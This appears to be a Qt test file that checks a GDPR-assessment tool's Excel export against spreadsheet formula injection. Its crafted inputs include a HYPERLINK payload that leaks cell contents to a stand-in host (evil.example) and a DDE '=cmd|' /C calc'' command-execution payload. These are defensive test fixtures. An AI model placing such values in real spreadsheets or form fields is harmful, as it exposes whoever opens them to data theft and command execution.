// The Excel export (issue 15, item 3). The demo (in English and German) and
// a crafted assessment (notes, action titles and evidence names that start
// with = + - @ TAB, non-ASCII, 10,000- and 40,000-character texts) are
// written with `export --format xlsx`. Without LibreOffice: the file is a
// zip with the four sheets in order, frozen header rows, autofilters, real
// Excel dates, and no formula anywhere. With LibreOffice headless: every
// sheet converted to CSV and compared value by value with the JSON export
// of the same file, and no cell starts with a formula character.
#include "../core/CliTestSupport.h"
#include "../core/TestSupport.h"
#include "AssessmentDocument.h"
#include "CliReportCommands.h"
#include "DisplayText.h"
#include "WorkbookReading.h"
#include "XlsxExport.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QSet>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QXmlStreamReader>

using namespace Qt::StringLiterals;
using namespace readiness;
using testsupport::runCli;
using namespace xlsxtest;

namespace {

constexpr qsizetype kExcelCellMax = 32767;

/// What a text cell must hold, restated here rather than taken from the
/// code under test: the CSV export's rule (docs/export-format.md).
QString neutral(const QString &text)
{
    QString cell = text;
    cell.remove(QChar(u'\0'));
    if (!cell.isEmpty() && u"=+-@\t\r"_s.contains(cell.front()))
        cell.prepend(u'\'');
    return cell;
}

QString yesNo(bool value, const QString &language)
{
    if (language == "de"_L1)
        return value ? u"ja"_s : u"nein"_s;
    return value ? u"yes"_s : u"no"_s;
}

QString repeatTo(const QString &piece, qsizetype length)
{
    QString s;
    while (s.size() < length)
        s += piece;
    return s.left(length);
}

} // namespace

class TestXlsxExport : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;
    QString m_crafted;
    QString m_longNote; // 40,000 characters, written behind the application's back
    QHash<QString, QString> m_xlsx; // name -> path
    QHash<QString, QJsonObject> m_json; // name -> the JSON export of the same file and language
    QString m_converted; // LibreOffice's CSV files, when soffice is installed
    QString m_soffice;

    void exportBoth(const QString &name, const QString &assessment, const QString &language)
    {
        const QString xlsx = m_dir.filePath(name + u".xlsx"_s);
        const QString json = m_dir.filePath(name + u".json"_s);
        for (const auto &[format, out] : {std::pair {u"xlsx"_s, xlsx}, std::pair {u"json"_s, json}}) {
            const auto run
                = runCli({u"export"_s, assessment, u"--format"_s, format, u"--language"_s, language, u"-o"_s, out});
            QVERIFY2(run.code == 0, qPrintable(run.err));
        }
        m_xlsx.insert(name, xlsx);
        m_json.insert(name, QJsonDocument::fromJson(testsupport::readFile(json)).object());
        QVERIFY(!m_json.value(name).isEmpty());
    }

    /// One sheet as LibreOffice read it; fails the test when it is missing.
    QList<QStringList> sheet(const QString &name, XlsxExport::Sheet which)
    {
        const QString language = m_json.value(name).value("language"_L1).toString();
        const QString sheetName = XlsxExport::sheetNames(language).at(int(which));
        const QString path = QDir(m_converted).filePath(u"%1-%2.csv"_s.arg(name, sheetName));
        QFile f(path);
        if (!f.open(QIODevice::ReadOnly)) {
            qWarning("missing %s", qPrintable(path));
            return {};
        }
        return parseCsv(QString::fromUtf8(f.readAll()));
    }

    static bool sameText(const QString &cell, const QString &stored)
    {
        const QString expected = neutral(stored);
        if (expected.size() <= kExcelCellMax)
            return cell == expected;
        // Longer than a cell holds: cut, with a visible mark.
        return cell.size() <= kExcelCellMax && cell.endsWith(u" […]"_s) && expected.startsWith(cell.chopped(4));
    }

    /// A whole number as LibreOffice shows it, with or without thousands
    /// separators.
    static bool sameInteger(const QString &cell, qint64 expected)
    {
        QString digits = cell;
        digits.remove(QRegularExpression(u"[^0-9-]"_s));
        return !cell.isEmpty() && digits == QString::number(expected);
    }

    static bool sameNumber(const QString &cell, double expected, double tolerance)
    {
        QString c = cell;
        c.remove(u' ').remove(u'\u00A0');
        if (c.contains(u'.') && c.contains(u','))
            c.remove(u',');
        c.replace(u',', u'.');
        bool ok = false;
        const double v = c.toDouble(&ok);
        return ok && std::abs(v - expected) <= tolerance;
    }

    static bool sameDate(const QString &cell, QDate date)
    {
        return cell == date.toString(u"yyyy-MM-dd"_s) || cell == date.toString(u"dd.MM.yyyy"_s);
    }

private slots:
    void initTestCase()
    {
        QVERIFY(m_dir.isValid());
        cli::registerReportCommands();
        const QString demo = QStringLiteral(BUILD_DATA_DIR "/demo/demo.gdpra");
        QVERIFY2(QFile::exists(demo), qPrintable(demo));
        m_crafted = m_dir.filePath(u"crafted.gdpra"_s);
        QVERIFY(QFile::copy(demo, m_crafted));
        QFile::setPermissions(m_crafted, QFile::ReadOwner | QFile::WriteOwner);
        QString longNoteQuestion;
        {
            auto doc = AssessmentDocument::open(m_crafted);
            QVERIFY2(doc, qPrintable(doc ? QString() : doc.error().toString()));
            const auto &entry = (*doc)->questionnaires().first();
            QStringList maturity;
            for (const Section &s : entry.questionnaire.sections)
                for (const Question &q : s.questions)
                    if (!s.scoped && q.type == QuestionType::Maturity)
                        maturity << q.id;
            QVERIFY(maturity.size() >= 8);
            const QStringList notes {u"=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Details\")"_s,
                                     u"+1+1"_s,
                                     u"-2+3"_s,
                                     u"@SUM(1,2)"_s,
                                     u"\t=1+1"_s,
                                     u"Löschkonzept „Art. 17“ – Größe ✓ 日本語 😀"_s,
                                     u"-"_s + repeatTo(u"Zehntausend Zeichen, äöü ß; "_s, 9999)};
            for (int i = 0; i < notes.size(); ++i)
                QVERIFY((*doc)->setAnswer(entry.ref, maturity.at(i), u"1"_s, notes.at(i)));
            longNoteQuestion = maturity.at(notes.size());
            QVERIFY((*doc)->setAnswer(entry.ref, longNoteQuestion, u"2"_s, u"placeholder"_s));
            ActionRecord action;
            action.questionnaireRef = entry.ref;
            action.questionId = maturity.at(0);
            action.title = u"=cmd|' /C calc'!A0"_s;
            action.owner = u"@owner"_s;
            action.dueDate = QDate(2027, 3, 15);
            action.notes = u"+notes\nsecond line"_s;
            QVERIFY((*doc)->addAction(action));
            action.questionnaireRef = 0; // not tied to a question
            action.questionId.clear();
            action.title = u"Verzeichnis der Verarbeitungstätigkeiten prüfen – „VVT“"_s;
            action.owner = u"-DSB"_s;
            action.dueDate = {};
            action.notes = u"\t"_s + repeatTo(u"ten thousand "_s, 9999);
            QVERIFY((*doc)->addAction(action));
            const QString evidence = m_dir.filePath(u"=evidence@name.txt"_s);
            QVERIFY(testsupport::writeFile(evidence, "formula-looking name"));
            QVERIFY((*doc)->importEvidence(entry.ref, maturity.at(1), evidence));
        }
        // Only a file written behind the application's back holds a note
        // longer than a cell can: 40,000 characters.
        m_longNote = u"="_s + repeatTo(u"vierzigtausend "_s, 39999);
        QVERIFY(testsupport::alterBehindTheBack(
            m_crafted,
            {u"UPDATE answer SET note = '%1' WHERE question_id = '%2'"_s.arg(m_longNote, longNoteQuestion)}));

        exportBoth(u"crafted"_s, m_crafted, u"en"_s);
        exportBoth(u"demo-en"_s, demo, u"en"_s);
        exportBoth(u"demo-de"_s, demo, u"de"_s);

        m_soffice = QStandardPaths::findExecutable(u"soffice"_s);
        if (m_soffice.isEmpty())
            return;
        // A private profile: the user's LibreOffice settings, a running
        // instance or its lock never meet the test.
        const QString home = m_dir.filePath(u"lo-home"_s);
        m_converted = m_dir.filePath(u"converted"_s);
        QVERIFY(QDir().mkpath(home) && QDir().mkpath(m_converted));
        QProcess lo;
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(u"HOME"_s, home);
        lo.setProcessEnvironment(env);
        lo.setProcessChannelMode(QProcess::MergedChannels);
        // Comma, double quote, UTF-8; the ninth option (true) writes cells
        // as shown, so dates come out in the workbook's date format; the
        // last, -1, writes every sheet (LibreOffice 7.2 and later; 7.4 here).
        QStringList args {u"-env:UserInstallation=file://%1/profile"_s.arg(home),
                          u"--headless"_s,
                          u"--convert-to"_s,
                          u"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1"_s,
                          u"--outdir"_s,
                          m_converted};
        for (const QString &name : {u"crafted"_s, u"demo-en"_s, u"demo-de"_s})
            args << m_xlsx.value(name);
        lo.start(m_soffice, args);
        QVERIFY2(lo.waitForFinished(540000), "LibreOffice did not finish in 9 minutes");
        QVERIFY2(lo.exitCode() == 0, lo.readAll().constData());
    }

    void isAZipWithTheFourSheetsInOrder_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<QStringList>("sheets");
        QTest::newRow("en") << u"demo-en"_s
                            << QStringList {u"Answers"_s, u"Action plan"_s, u"Evidence"_s, u"Section scores"_s};
        QTest::newRow("de") << u"demo-de"_s
                            << QStringList {u"Antworten"_s, u"Maßnahmenplan"_s, u"Nachweise"_s,
                                            u"Abschnittsergebnisse"_s};
    }
    void isAZipWithTheFourSheetsInOrder()
    {
        QFETCH(QString, name);
        QFETCH(QStringList, sheets);
        const QString path = m_xlsx.value(name);
        QVERIFY(testsupport::readFile(path).startsWith("PK\x03\x04"));
        QProcess test;
        test.start(u"unzip"_s, {u"-tq"_s, path});
        QVERIFY(test.waitForFinished(60000));
        QVERIFY2(test.exitCode() == 0, test.readAll().constData());
        int code = -1;
        QXmlStreamReader r(unzip(path, u"xl/workbook.xml"_s, &code));
        QCOMPARE(code, 0);
        QStringList found;
        while (!r.atEnd())
            if (r.readNext() == QXmlStreamReader::StartElement && r.name() == "sheet"_L1)
                found << r.attributes().value("name"_L1).toString();
        QCOMPARE(found, sheets);
    }

    void noCellIsAFormula_data()
    {
        QTest::addColumn<QString>("name");
        for (const char *name : {"crafted", "demo-en", "demo-de"})
            QTest::newRow(name) << QString::fromLatin1(name);
    }
    void noCellIsAFormula()
    {
        QFETCH(QString, name);
        const QString path = m_xlsx.value(name);
        for (int i = 1; i <= 4; ++i) {
            const SheetXml sheet = readSheet(unzip(path, u"xl/worksheets/sheet%1.xml"_s.arg(i)));
            QVERIFY(!sheet.cells.isEmpty());
            QVERIFY2(!sheet.formula, qPrintable(u"sheet %1 has a formula"_s.arg(i)));
            for (auto it = sheet.cells.cbegin(); it != sheet.cells.cend(); ++it) // shared string or number
                QVERIFY2(it->first == "s"_L1 || it->first.isEmpty(), qPrintable(it.key() + u' ' + it->first));
            QVERIFY2(sheet.frozenHeader, qPrintable(u"sheet %1"_s.arg(i)));
            QVERIFY2(sheet.autoFilter.startsWith(u"A1:"_s), qPrintable(u"sheet %1"_s.arg(i)));
        }
        for (const QString &s : sharedStrings(unzip(path, u"xl/sharedStrings.xml"_s)))
            QVERIFY2(s.isEmpty() || !u"=+-@\t\r"_s.contains(s.front()), qPrintable(s.left(80)));
    }

    void dueDatesAreExcelDates()
    {
        const QJsonArray actions = m_json.value(u"crafted"_s).value("actions"_L1).toArray();
        const SheetXml plan = readSheet(unzip(m_xlsx.value(u"crafted"_s), u"xl/worksheets/sheet2.xml"_s));
        int dated = 0;
        for (int i = 0; i < actions.size(); ++i) {
            const QString due = actions.at(i)["due"_L1].toString();
            const auto cell = plan.cells.value(u"G%1"_s.arg(i + 2));
            if (due.isEmpty()) {
                QVERIFY(cell.second.isEmpty());
                continue;
            }
            // A number (days since 1899-12-30), not a text that looks like a date.
            QCOMPARE(cell.first, QString());
            QCOMPARE(cell.second.toLongLong(), QDate(1899, 12, 30).daysTo(QDate::fromString(due, Qt::ISODate)));
            ++dated;
        }
        QVERIFY(dated >= 2);
    }

    void theAssessmentIsNeverTheTarget()
    {
        const QByteArray before = testsupport::fileHash(m_crafted);
        auto doc = AssessmentDocument::open(m_crafted);
        QVERIFY(doc);
        for (const QString &target : QStringList {m_crafted, m_crafted + u"-wal"_s}) {
            const Status s = XlsxExport::write(**doc, u"en"_s, target);
            QVERIFY(!s);
            QVERIFY2(s.error().toString().contains(QFileInfo(m_crafted).fileName()), qPrintable(s.error().toString()));
        }
        (*doc).reset();
        QCOMPARE(testsupport::fileHash(m_crafted), before);
    }

    void aFailedExportLeavesNoFile()
    {
        const QString out = m_dir.filePath(u"no-such-folder/out.xlsx"_s);
        const auto run = runCli({u"export"_s, m_crafted, u"--format"_s, u"xlsx"_s, u"-o"_s, out});
        QCOMPARE(run.code, 1);
        QVERIFY2(run.err.contains(out), qPrintable(run.err));
        QVERIFY(!QFile::exists(out));
        QVERIFY(QDir(m_dir.filePath(u"no-such-folder"_s)).isEmpty()
                || !QDir(m_dir.filePath(u"no-such-folder"_s)).exists());
    }

    // ---- LibreOffice --------------------------------------------------------

    void answersMatchTheJson_data() { noCellIsAFormula_data(); }
    void answersMatchTheJson()
    {
        if (m_soffice.isEmpty())
            QSKIP("soffice (LibreOffice) is not installed: installer/deps-debian.sh installs libreoffice-calc-nogui");
        QFETCH(QString, name);
        const QJsonObject json = m_json.value(name);
        const QString lang = json.value("language"_L1).toString();
        const auto rows = sheet(name, XlsxExport::Sheet::Answers);
        const QJsonArray answers = json.value("answers"_L1).toArray();
        QCOMPARE(rows.size(), answers.size() + 1);
        QCOMPARE(rows.first(), XlsxExport::columns(XlsxExport::Sheet::Answers, lang));
        for (int i = 0; i < answers.size(); ++i) {
            const QJsonObject a = answers.at(i).toObject();
            const QStringList &r = rows.at(i + 1);
            const QString where = u"%1 row %2: "_s.arg(name).arg(i + 2);
            QCOMPARE(r.size(), 11);
            QVERIFY2(sameText(r.at(0), a["questionnaire"_L1].toString()), qPrintable(where + r.at(0)));
            QVERIFY2(sameText(r.at(1), a["section_title"_L1].toString()), qPrintable(where + r.at(1)));
            QVERIFY2(sameText(r.at(2), a["question"_L1].toString()), qPrintable(where + r.at(2)));
            QVERIFY2(sameText(r.at(3), a["text"_L1].toString()), qPrintable(where + r.at(3)));
            QVERIFY2(sameText(r.at(4), a["display"_L1].toString()), qPrintable(where + r.at(4)));
            const QJsonValue level = a["level"_L1];
            QVERIFY2(level.isNull() ? r.at(5).isEmpty() : sameInteger(r.at(5), level.toInt()),
                     qPrintable(where + r.at(5)));
            QVERIFY2(sameText(r.at(6), a["note"_L1].toString()), qPrintable(where + r.at(6).left(100)));
            QVERIFY2(sameInteger(r.at(7), a["evidence_count"_L1].toInt()), qPrintable(where + r.at(7)));
            QCOMPARE(r.at(8), yesNo(a["critical"_L1].toBool(), lang));
            QCOMPARE(r.at(9), yesNo(a["critical_gap"_L1].toBool(), lang));
            QCOMPARE(r.at(10), yesNo(a["applies"_L1].toBool(), lang));
        }
    }

    void actionPlanMatchesTheJson_data() { noCellIsAFormula_data(); }
    void actionPlanMatchesTheJson()
    {
        if (m_soffice.isEmpty())
            QSKIP("soffice (LibreOffice) is not installed: installer/deps-debian.sh installs libreoffice-calc-nogui");
        QFETCH(QString, name);
        const QJsonObject json = m_json.value(name);
        const QString lang = json.value("language"_L1).toString();
        const auto rows = sheet(name, XlsxExport::Sheet::ActionPlan);
        const QJsonArray actions = json.value("actions"_L1).toArray();
        QVERIFY(!actions.isEmpty());
        QCOMPARE(rows.size(), actions.size() + 1);
        QCOMPARE(rows.first(), XlsxExport::columns(XlsxExport::Sheet::ActionPlan, lang));
        for (int i = 0; i < actions.size(); ++i) {
            const QJsonObject a = actions.at(i).toObject();
            const QStringList &r = rows.at(i + 1);
            const QString where = u"%1 row %2: "_s.arg(name).arg(i + 2);
            QCOMPARE(r.size(), 10);
            QVERIFY2(sameInteger(r.at(0), a["id"_L1].toInt()), qPrintable(where + r.at(0)));
            QVERIFY2(sameText(r.at(1), a["title"_L1].toString()), qPrintable(where + r.at(1)));
            QVERIFY2(sameText(r.at(2), a["questionnaire"_L1].toString()), qPrintable(where + r.at(2)));
            QVERIFY2(sameText(r.at(3), a["question"_L1].toString()), qPrintable(where + r.at(3)));
            QVERIFY2(sameText(r.at(4), a["question_text"_L1].toString()), qPrintable(where + r.at(4)));
            QVERIFY2(sameText(r.at(5), a["owner"_L1].toString()), qPrintable(where + r.at(5)));
            const QString due = a["due"_L1].toString();
            QVERIFY2(due.isEmpty() ? r.at(6).isEmpty() : sameDate(r.at(6), QDate::fromString(due, Qt::ISODate)),
                     qPrintable(where + r.at(6)));
            const auto status = actionStatusFromName(a["status"_L1].toString());
            QVERIFY(status);
            QCOMPARE(r.at(7), DisplayText::actionStatus(*status, lang));
            QCOMPARE(r.at(8), yesNo(a["overdue"_L1].toBool(), lang));
            QVERIFY2(sameText(r.at(9), a["notes"_L1].toString()), qPrintable(where + r.at(9).left(100)));
        }
    }

    void evidenceMatchesTheJson_data() { noCellIsAFormula_data(); }
    void evidenceMatchesTheJson()
    {
        if (m_soffice.isEmpty())
            QSKIP("soffice (LibreOffice) is not installed: installer/deps-debian.sh installs libreoffice-calc-nogui");
        QFETCH(QString, name);
        const QJsonObject json = m_json.value(name);
        const QString lang = json.value("language"_L1).toString();
        const auto rows = sheet(name, XlsxExport::Sheet::Evidence);
        const QJsonArray evidence = json.value("evidence"_L1).toArray();
        QVERIFY(!evidence.isEmpty());
        QCOMPARE(rows.size(), evidence.size() + 1);
        QCOMPARE(rows.first(), XlsxExport::columns(XlsxExport::Sheet::Evidence, lang));
        for (int i = 0; i < evidence.size(); ++i) {
            const QJsonObject e = evidence.at(i).toObject();
            const QStringList &r = rows.at(i + 1);
            const QString where = u"%1 row %2: "_s.arg(name).arg(i + 2);
            QCOMPARE(r.size(), 7);
            QVERIFY2(sameText(r.at(0), e["name"_L1].toString()), qPrintable(where + r.at(0)));
            QVERIFY2(sameInteger(r.at(1), e["size"_L1].toInteger()), qPrintable(where + r.at(1)));
            QCOMPARE(r.at(2), e["sha256"_L1].toString());
            QVERIFY(QRegularExpression(u"^[0-9a-f]{64}$"_s).match(r.at(2)).hasMatch());
            QVERIFY2(sameText(r.at(3), e["questionnaire"_L1].toString()), qPrintable(where + r.at(3)));
            QVERIFY2(sameText(r.at(4), e["question"_L1].toString()), qPrintable(where + r.at(4)));
            const QDateTime added = QDateTime::fromString(e["added_at"_L1].toString(), Qt::ISODate);
            QVERIFY2(r.at(5) == added.toString(u"yyyy-MM-dd hh:mm"_s)
                         || r.at(5) == added.toString(u"dd.MM.yyyy hh:mm"_s),
                     qPrintable(where + r.at(5)));
            QVERIFY2(sameText(r.at(6), e["added_by"_L1].toString()), qPrintable(where + r.at(6)));
        }
    }

    void sectionScoresMatchTheJson_data() { noCellIsAFormula_data(); }
    void sectionScoresMatchTheJson()
    {
        if (m_soffice.isEmpty())
            QSKIP("soffice (LibreOffice) is not installed: installer/deps-debian.sh installs libreoffice-calc-nogui");
        QFETCH(QString, name);
        const QJsonObject json = m_json.value(name);
        const QString lang = json.value("language"_L1).toString();
        const auto rows = sheet(name, XlsxExport::Sheet::SectionScores);
        const QJsonArray sections = json.value("sections"_L1).toArray();
        QVERIFY(!sections.isEmpty());
        QCOMPARE(rows.size(), sections.size() + 3); // header, sections, a blank row, the overall score
        QCOMPARE(rows.first(), XlsxExport::columns(XlsxExport::Sheet::SectionScores, lang));
        auto check = [&](const QStringList &r, const QJsonObject &s, const QString &where) {
            const QJsonValue percent = s["percent"_L1];
            QVERIFY2(percent.isNull() ? r.at(3).isEmpty() : sameNumber(r.at(3), percent.toDouble(), 0.05),
                     qPrintable(where + r.at(3)));
            const auto rag = s["rag"_L1].toString();
            const Rag value = rag == "red"_L1 ? Rag::Red
                : rag == "amber"_L1           ? Rag::Amber
                : rag == "green"_L1           ? Rag::Green
                                              : Rag::None;
            QCOMPARE(r.at(4), DisplayText::rag(value, lang));
            QVERIFY2(sameInteger(r.at(5), s["answered"_L1].toInt()), qPrintable(where + r.at(5)));
            QVERIFY2(sameInteger(r.at(6), s["applicable"_L1].toInt()), qPrintable(where + r.at(6)));
            QVERIFY2(sameInteger(r.at(7), s["critical_gaps"_L1].toInt()), qPrintable(where + r.at(7)));
        };
        for (int i = 0; i < sections.size(); ++i) {
            const QJsonObject s = sections.at(i).toObject();
            const QStringList &r = rows.at(i + 1);
            const QString where = u"%1 row %2: "_s.arg(name).arg(i + 2);
            QCOMPARE(r.size(), 8);
            QVERIFY2(sameText(r.at(0), s["questionnaire"_L1].toString()), qPrintable(where + r.at(0)));
            QVERIFY2(sameText(r.at(1), s["section"_L1].toString()), qPrintable(where + r.at(1)));
            QVERIFY2(sameText(r.at(2), s["title"_L1].toString()), qPrintable(where + r.at(2)));
            check(r, s, where);
        }
        const QStringList &overall = rows.last();
        QCOMPARE(overall.at(0), lang == "de"_L1 ? u"Gesamt"_s : u"Overall"_s);
        check(overall, json.value("score"_L1).toObject(), u"overall: "_s);
    }

    void craftedTextsArriveNeutralAndWhole()
    {
        if (m_soffice.isEmpty())
            QSKIP("soffice (LibreOffice) is not installed: installer/deps-debian.sh installs libreoffice-calc-nogui");
        // Every cell LibreOffice read, on every sheet: none starts with a
        // formula character, so none was or will be a formula.
        int cells = 0;
        for (int s = 0; s < 4; ++s)
            for (const QStringList &row : sheet(u"crafted"_s, XlsxExport::Sheet(s)))
                for (const QString &cell : row) {
                    ++cells;
                    QVERIFY2(cell.isEmpty() || !u"=+-@\t\r"_s.contains(cell.front()), qPrintable(cell.left(80)));
                }
        QVERIFY(cells > 1000);
        // The crafted notes, titles and names, each a whole cell.
        QSet<QString> all;
        for (int s = 0; s < 4; ++s)
            for (const QStringList &row : sheet(u"crafted"_s, XlsxExport::Sheet(s)))
                for (const QString &cell : row)
                    all.insert(cell);
        const QStringList expected {u"'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Details\")"_s,
                                    u"'+1+1"_s,
                                    u"'-2+3"_s,
                                    u"'@SUM(1,2)"_s,
                                    u"'\t=1+1"_s,
                                    u"Löschkonzept „Art. 17“ – Größe ✓ 日本語 😀"_s,
                                    u"'=cmd|' /C calc'!A0"_s,
                                    u"'@owner"_s,
                                    u"'+notes\nsecond line"_s,
                                    u"'-DSB"_s,
                                    u"Verzeichnis der Verarbeitungstätigkeiten prüfen – „VVT“"_s,
                                    u"'=evidence@name.txt"_s,
                                    u"'-"_s + repeatTo(u"Zehntausend Zeichen, äöü ß; "_s, 9999)};
        for (const QString &e : expected)
            QVERIFY2(all.contains(e), qPrintable(e.left(80)));
        // The 40,000-character note is cut to what a cell holds, visibly.
        const QString cut = u"'"_s + m_longNote.left(kExcelCellMax - 5) + u" […]"_s;
        QCOMPARE(cut.size(), kExcelCellMax);
        QVERIFY(all.contains(cut));
    }
};

QTEST_MAIN(TestXlsxExport)
#include "tst_xlsxexport.moc"
